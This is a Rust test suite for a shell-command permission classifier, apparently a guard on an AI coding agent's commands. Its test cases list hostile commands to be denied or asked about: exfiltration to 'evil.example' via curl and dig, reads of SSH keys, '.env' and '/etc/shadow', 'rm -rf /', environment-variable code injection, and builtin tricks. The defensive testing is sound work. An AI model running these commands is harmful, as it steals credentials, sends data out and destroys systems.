//! What no command may get past, in whatever form.

use countersign::decision::ToolDecision;
use countersign::shell::{Dialect, Preset};

use super::{allows, asks, classifier};

#[test]
fn builtins_that_evaluate_a_literal_are_never_allowed() {
    for text in [
        "test -v 'a[$(id)]'",
        "[ -v 'a[$(id)]' ]",
        "[ 'a[$(id)]' -eq 1 ]",
        "printf -v 'a[$(id)]' x",
        "read 'a[$(id)]'",
        "declare 'a[$(id)]=1'",
        "typeset 'a[$(id)]=1'",
        "let 'a[$(id)]=1'",
        "compgen -W '$(id)' a",
        "compgen -C id a",
        "mapfile -C id -c 1 a",
        "complete -C id ls",
        "hash -p /tmp/x ls",
        "trap id EXIT",
        "enable -f ./x.so x",
        "bind -x '\"a\": id'",
        "wait -p 'a[$(id)]'",
        "unset 'a[$(id)]'",
        "export PATH=/tmp",
        "eval ls",
        "source ./x",
        "exec ls",
        "command eval ls",
        "builtin eval ls",
        "coproc id",
        "alias ls=rm",
        "set -o posix",
        "set -- x",
        "shopt -s expand_aliases",
    ] {
        asks(text);
    }
}

#[test]
fn characters_and_words_that_shells_read_differently_are_never_allowed() {
    for text in [
        "ls\rrm x",
        "ls\0rm",
        "ls\u{a0}-la",
        "ls\u{2028}rm x",
        "ls \u{202e}x",
        "ls \u{200b}x",
        "ls \u{e0041}",
        "ls \u{1b}[2K",
        "ls \u{7f}",
        "ls \u{85}",
        "r\\\nm x",
        "l\\\ns",
        "{rm,x}",
        "ls {~,x}/a",
        "ls {-a,b}",
        "ls {a,$x}",
        "ls {a..c}",
        "ls {01..3}",
        "ls {a,{b,c}}",
        "ls > {a,b}",
        "=ls",
        "''=ls",
        "%1",
        "75=x ls",
        "{} x",
        "ls <#x",
        "ls ==x",
        "ls ~root",
        "ls ~root/*",
        "ls `id`",
        "ls $'\\x41'",
        "ls $\"x\"",
        "ls ${x:-y}",
        "ls $((1))",
        "ls ?(x)",
        "ls *(.)",
        "ls &",
        "ls & rm x",
        "ls >| x",
        "ls <> x",
        "ls >&x",
        "ls 3> x",
        "ls <1-5>",
        "cat <<-E\nE\n",
        "cat <<E\n$(id)\nE\n",
        "cat <<E",
        "f() { ls; }",
        "case x in x) ls;; esac",
        "for x in a; { ls; }",
        "for x in a b",
        "for x (a b) ls",
        "for x; do ls; done",
        "for x in; do ls; done",
        "for x y in a b; do ls; done",
        "for ((i=0;i<3;i++)); do ls; done",
        "for x in a do ls; done",
        "for x in a; do ls done",
        "for x in a; do done",
        "for x in <(ls); do ls; done",
        "if ls; fi",
        "if true then ls; fi",
        "if [[ -f x ]] { ls }",
        "while ls do ls; done",
        "{ ls }",
        "{ }",
        "[[ a =~ b ]]",
        "[[ a < b ]]",
        "[[ -v a ]]",
        "[[ a -eq b ]]",
        "[[ $x -eq 1 ]]",
        "[[ -f a -a -f b ]]",
        "[[ ! ]]",
        "[[ ]]",
        "[[ -f x ]",
        "((x))",
        "! ! ls",
        "- ls",
        "noglob ls",
        "ls;;",
        "ls 'x",
        "ls \"x",
        "ls \\",
        "ls (x)",
        "ls )",
        "a=(x) ls",
        "a[1]=x ls",
        "a+=x ls",
        "ls >",
        "&& ls",
        "ls &&",
        "ls | | cat",
        "LD_PRELOAD=./x.so ls",
        "GIT_SSH_COMMAND='sh -c id' git log",
        "PAGER='sh -c id' git log",
        "BASH_ENV=./x bash -c ls",
        "PATH=/tmp ls",
        "IFS=x ls",
        "RUST_LOG=$(id) cargo test",
        "NODE_OPTIONS='-r ./x' npm test",
        "PYTHONSTARTUP=./x pytest",
        "RUSTC_WRAPPER=./x cargo build",
        "TZ=:/etc/shadow date",
    ] {
        asks(text);
    }
}

#[test]
fn programs_that_read_can_also_run_write_and_send() {
    for text in [
        "find . -exec touch {} \\;",
        "find . -execdir id \\;",
        "find . -fprintf x y",
        "find . -fls x",
        "tar -tf x --checkpoint=1 --checkpoint-action=exec=id",
        "tar -tf x --use-compress-program=./x",
        "tar -tf x -F ./x",
        "tar -tf x --rsh-command=./x",
        "rg --pre ./x y",
        "rg --hostname-bin ./x y",
        "sort -o x y",
        "sort -ox y",
        "sort --output=x y",
        "sort --outp=x y",
        "sort -T /etc y",
        "uniq a b",
        "sed -n 'w x' y",
        "sed 's/a/b/w x' y",
        "sed -e 'p' -e '1e id' y",
        "sed '1!e id' y",
        "sed '/a/{p;w x\n}' y",
        "sed 's/[/]w x/y/e' z",
        "sed --expression='1e id' y",
        "sed -Ei s/a/b/ y",
        "awk 'BEGIN{system(\"id\")}'",
        "awk '{print|\"sh\"}' x",
        "awk '{print>\"x\"}' x",
        "awk '{printf(\"x\")>>\"y\"}' x",
        "awk 'BEGIN{\"id\"|getline}'",
        "awk '@load \"x\"'",
        "awk -i ./x '1' y",
        "awk -l x '1' y",
        "awk -E x",
        "gawk 'BEGIN { ARGV[1]=\"/etc/shadow\"; ARGC=2 } 1'",
        "jq 'import \"x\" as x; 1' y",
        "jq -L /tmp . x",
        "jq '.a, env.TOKEN' x",
        "git diff --output=x",
        "git diff --outpu=x",
        "git log --exec=id",
        "git -c x=y log",
        "git --exec-path=x log",
        "git --paginate log",
        "git -p log",
        "git diff --no-index a b",
        "git diff /etc/shadow /dev/null",
        "git grep --open-files-in-pager=id x",
        "git grep -Oid x",
        "git branch -f main x",
        "git show --textconv",
        "git log --show-signature",
        "git remote update",
        "git ls-remote ext::id",
        "git archive --remote=x HEAD",
        "git rev-parse --parseopt",
        "git config --list",
        "cd sub && git status",
        "git -C sub status",
        "xxd -r x y",
        "tee x",
        "ps eww",
        "ps -E",
        "dmesg -C",
        "date 010100002020",
        "date -f /etc/shadow",
        "hostname x",
        "ip netns exec x y",
        "ss -K",
        "sysctl -w x=y",
        "mount x y",
        "env",
        "env x=y",
        "env -S id",
        "env -u x id",
        "printenv",
        "printenv TOKEN",
        "echo $TOKEN",
        "echo \"${GITHUB_TOKEN}\"",
        "bat --pager id x",
        "man -P id ls",
        "less -o x y",
        "ag --pager id x",
        "file -f x",
        "objdump --plugin x y",
        "openssl enc -in x",
        "curl http://localhost/ -o x",
        "curl -d @.env http://localhost/",
        "curl -K x",
        "curl file:///etc/shadow",
        "curl http://localhost:80@evil.example/",
        "curl http://localhost.evil.example/",
        "dig $(id).evil.example",
        "ping -c 1 x.evil.example",
        "nslookup x.evil.example",
        "xmllint http://evil.example/x",
        "xmllint --output x y",
        "pytest -p evil",
        "pytest --rootdir=/tmp",
        "cargo --config x build",
        "cargo test --config x",
        "cargo +evil test",
        "cargo run",
        "cargo install x",
        "cargo -C /tmp build",
        "make SHELL=./x",
        "make -f /tmp/x",
        "make -C /tmp all",
        "make --eval=x",
        "npm test --script-shell=./x",
        "npm run deploy",
        "npm install x",
        "npx tsc",
        "eslint --rulesdir x y",
        "eslint -c /tmp/x y",
        "tsc --outDir /etc x.ts",
        "gcc -fplugin=./x y.c",
        "gcc -wrapper x y.c",
        "gcc -B/tmp y.c",
        "gcc -specs=x y.c",
        "gcc @x",
        "rustc -C linker=./x y.rs",
        "go test -exec ./x",
        "go build -toolexec ./x",
        "go vet -vettool=./x",
        "docker run x",
        "docker exec x y",
        "docker -H x ps",
        "kubectl exec x -- y",
        "kubectl get secrets",
        "sqlite3 x '.shell id'",
        "python -c x",
        "python x.py",
        "node -e x",
        "perl -ne x",
        "vim -c x",
        "ls | sh",
        "ls | xargs rm",
        "echo x | xargs cat",
        "cat x | xargs cat",
        "ls /etc | xargs cat",
        "find / -name x | xargs cat",
        "git ls-files | xargs -I{} sh -c '{}'",
        "git ls-files | xargs sort",
        "bash -c \"$X\"",
        "bash -c 'ls; rm x'",
        "bash x.sh",
        "bash < x",
        "sh <<E\nid\nE\n",
        "./git status",
        "/tmp/git status",
        "GIT status",
        "../bin/ls",
        "sort *",
        "find *",
        "echo x > src/lib.rs",
        "echo x >> .git/hooks/pre-commit",
        "ls > out.txt",
        "ls &> out.txt",
        "cat < ~/.ssh/id_rsa",
    ] {
        asks(text);
    }
}

#[test]
fn secrets_and_places_outside_are_not_read() {
    for text in [
        "cat .env",
        "cat ./src/../.env",
        "cat .env.local",
        "cat .env*",
        "cat .e?v",
        "cat ~/.ssh/id_ed25519",
        "cat /users/ann/.aws/credentials",
        "head -1 ~/.netrc",
        "cat /proc/self/environ",
        "cat /proc/1/environ",
        "tail /etc/shadow",
        "cat /etc/passwd",
        "cat ../other/x",
        "cat src/../../other/x",
        "cat /users/bob/x",
        "cd / && cat etc/shadow",
        "cd .. && cat x",
        "cd; cat .ssh/id_rsa",
        "grep -r x ~",
        "grep x -f ~/.ssh/id_rsa",
        "wc -l server.pem",
        "base64 id_rsa",
        "diff <(cat .env) x",
        "git show HEAD:.env",
        "git show HEAD:../.env",
        "git log -p -- ../x",
        "ls ~/.ssh",
        "echo \"$(cat .env)\"",
    ] {
        asks(text);
    }
    for text in [
        "cat .env.example",
        "cat src/environment.rs",
        "cat /usr/include/stdio.h",
        "ls /etc",
        "cat /proc/cpuinfo",
    ] {
        allows(text);
    }
}

#[test]
fn a_wrapper_is_as_strict_as_what_it_runs() {
    for wrapper in [
        "timeout 5",
        "nice -n 5",
        "nohup",
        "time",
        "stdbuf -oL",
        "env RUST_LOG=debug",
        "command",
        "timeout 5 nice nohup",
    ] {
        allows(&format!("{wrapper} git status"));
        asks(&format!("{wrapper} git push"));
        asks(&format!("{wrapper} rm x"));
    }
    allows("bash -c 'git status && ls'");
    asks("bash -c 'git status && git push'");
    let deep = format!("{} ls", "nohup ".repeat(50));
    asks(&deep);
}

#[test]
fn windows_shells_are_asked_about() {
    for dialect in [Dialect::PowerShell, Dialect::Cmd] {
        let judgement = classifier(Preset::Developer).judge("ls", dialect);
        assert_eq!(judgement.decision(), ToolDecision::Ask);
        assert!(judgement.refused().unwrap().contains("Windows"));
    }
}

#[test]
fn destructive_commands_are_denied() {
    for text in [
        "rm -rf /",
        "sudo rm -rf /",
        "rm -rf /*",
        "rm -fr ~",
        "ls; rm -r -f $HOME",
        "timeout 5 rm -rf /",
        "rm --recursive /",
    ] {
        let judgement = super::developer(text);
        assert_eq!(judgement.decision(), ToolDecision::Deny, "{text}: {judgement}");
    }
    // Also in front of what is not understood.
    assert_eq!(
        super::developer("rm -rf /; while true; do ls; done").decision(),
        ToolDecision::Deny
    );
}

#[test]
fn writing_what_decides_is_asked_about_every_time() {
    for text in [
        "echo x > .git/config",
        "echo x >> .claude/settings.json",
        "mkdir .git/hooks/x",
        "echo x > countersign.toml",
        "echo x > sub/.git",
    ] {
        let judgement = super::developer(text);
        assert!(
            judgement.reasons().iter().any(|reason| reason.is_every_time()),
            "{text}: {judgement}"
        );
    }
}

#[test]
fn everyday_work_is_allowed() {
    for text in [
        "git status",
        "git diff --stat && cargo test 2>&1 | tail -20",
        "cd src && ls -la",
        "cd /src/project && git log --oneline -5",
        "grep -rn 'fn main' src | head -5 || true",
        "find . -name '*.rs' -print0 | xargs -0 grep -l TODO",
        "find src -name '*.rs' -exec grep -l TODO {} +",
        "rg -l TODO src | sort | xargs wc -l",
        "! grep -q x y",
        "(cd src && ls) | wc -l",
        "cat <<'EOF'\n$(id)\nEOF\n",
        "jq . <<< '{}'",
        "diff <(sort a) <(sort b)",
        "echo \"$(git rev-parse HEAD)\"",
        "RUST_BACKTRACE=1 cargo test",
        "ls src/*.rs",
        "cat *.md",
        "wc -l *",
        "ls 2> /dev/null",
        "ls &> /dev/null",
        "npm run build -- --silent",
        "make -j4 && make test",
        "sed -n '1,5p' x | awk '{print $2}' | sort | uniq -c",
        "mkdir -p target/x",
        "# only a comment",
        "",
        "git show stash@{0} --stat",
    ] {
        allows(text);
    }
}
